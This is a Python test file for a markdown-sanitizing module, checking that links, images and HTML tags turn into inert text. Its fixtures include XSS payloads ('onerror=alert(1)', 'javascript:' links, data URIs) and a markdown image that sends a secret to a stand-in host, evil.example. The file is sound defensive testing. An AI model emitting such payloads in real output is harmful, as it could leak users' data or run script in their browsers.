import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from query_engine.text.markdown_escape import as_plain, as_text, without_effects, without_marks


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![cat](http://evil.example/?q=secret)", "[cat] (evil.example/?q=secret)"),
        ("[click](javascript:alert(1))", "[click] (alert(1))"),
        ("[click][1]", "[click][1]"),
        ("see [1] and [2][3].", "see [1] and [2][3]."),
        ("[x]: https://evil.example", "[x] : evil.example"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("</script><!-- x -->", "< /script>< !-- x -->"),
        ("<https://evil.example>", "< evil.example>"),
        ("go to www.evil.example now", "go to evil.example now"),
        ("DATA:text/html,x", "text/html,x"),
        ("a < b and c > d, 5:30, note: this", "a < b and c > d, 5:30, note: this"),
        ("https:javascript://evil.example", "evil.example"),
        ("!![x](y)", "[x] (y)"),
        ("data: 42\n\nevent: done", "data: 42\n\nevent: done"),
        ("**bold** `code` stays", "**bold** `code` stays"),
    ],
)
def test_links_images_and_tags_become_text(text: str, shown: str) -> None:
    assert as_text(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![cat](http://evil.example/?q=secret)", "[cat] (http://evil.example/?q=secret)"),
        ("![cat](cat.png), it works![2]", "[cat](cat.png), it works! [2]"),
        ("see [the guide](https://example.org/guide)", "see [the guide] (https://example.org/guide)"),
        ("[a](//evil.example) [b](&#104;ttp:x) [c](<x>)", "[a] (//evil.example) [b] (&#104;ttp:x) [c] (<x>)"),
        ("see [copy](/commands/copy/#flags)", "see [copy](/commands/copy/#flags)"),
        ("[9]: https://evil.example", "[9] : https://evil.example"),
        ("<IMG src=x> <iframe src=y></iframe>", "< IMG src=x> < iframe src=y>< /iframe>"),
        ("restart <service name> from https://example.org", "restart <service name> from https://example.org"),
        ("map<int, a> and a < b", "map<int, a> and a < b"),
    ],
)
def test_a_document_s_text_stays_but_for_what_acts(text: str, shown: str) -> None:
    assert without_effects(text) == shown


PARTS = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "/",
    ":",
    "a",
    " ",
    "1",
    "&#106;",
    "\\",
    "`",
    "http://",
    "https:",
    "//",
    "www.",
]
PARTS += [
    "javascript:",
    "data:text/html,",
    "JaVaScRiPt:",
    "img src=x",
    "![",
    "](",
    "]:",
    "[1]",
    "ht",
    "tp://",
    "java",
    "script:",
]


@pytest.mark.promise("A23")
@pytest.mark.fault("E8")
@given(st.lists(st.sampled_from(PARTS), max_size=30).map("".join))
def test_nothing_that_renderers_act_on_is_left_in_any_text(text: str) -> None:
    assert not re.search(
        r"!\[|\]\(|\]:|<[a-z/!?]|\bhttps?://\S|\bwww\.\S|\bjavascript:\S", as_text(text), re.IGNORECASE
    )


def test_marks_of_references_in_a_quote_are_no_citations() -> None:
    assert (
        without_marks("Wind is cheap [12], as others [2, 5-7] found.")
        == "Wind is cheap (12), as others (2, 5-7) found."
    )
    assert without_marks("an array[i] stays") == "an array[i] stays"
    assert without_marks("see [the proof][9] and [1][2]") == "see [the proof] (9) and (1)(2)"


@pytest.mark.parametrize(
    "title",
    [
        "**Bold** and *thin*",
        "`code` and ~~gone~~",
        "_under_ wind_power_2 __both__",
        "a | b",
        "&lt;b&gt; &#42;",
        "[1] and \\",
        "![](x) <b>fat</b>",
    ],
)
def test_a_plain_text_is_shown_as_it_stands(title: str) -> None:
    (paragraph,) = [
        token
        for token in MarkdownIt().enable(["strikethrough", "table"]).parse(f"x {as_plain(title)}")
        if token.type == "inline"
    ]

    assert {token.type for token in paragraph.children or ()} <= {"text", "text_special"}
    assert "".join(token.content for token in paragraph.children or ()) == f"x {as_text(title)}"


def test_a_plain_text_keeps_what_acts_nowhere_inside_a_line() -> None:
    assert as_plain("wind_power_2  (2020) #3 -\n1. x") == "wind_power_2 (2020) #3 - 1. x"
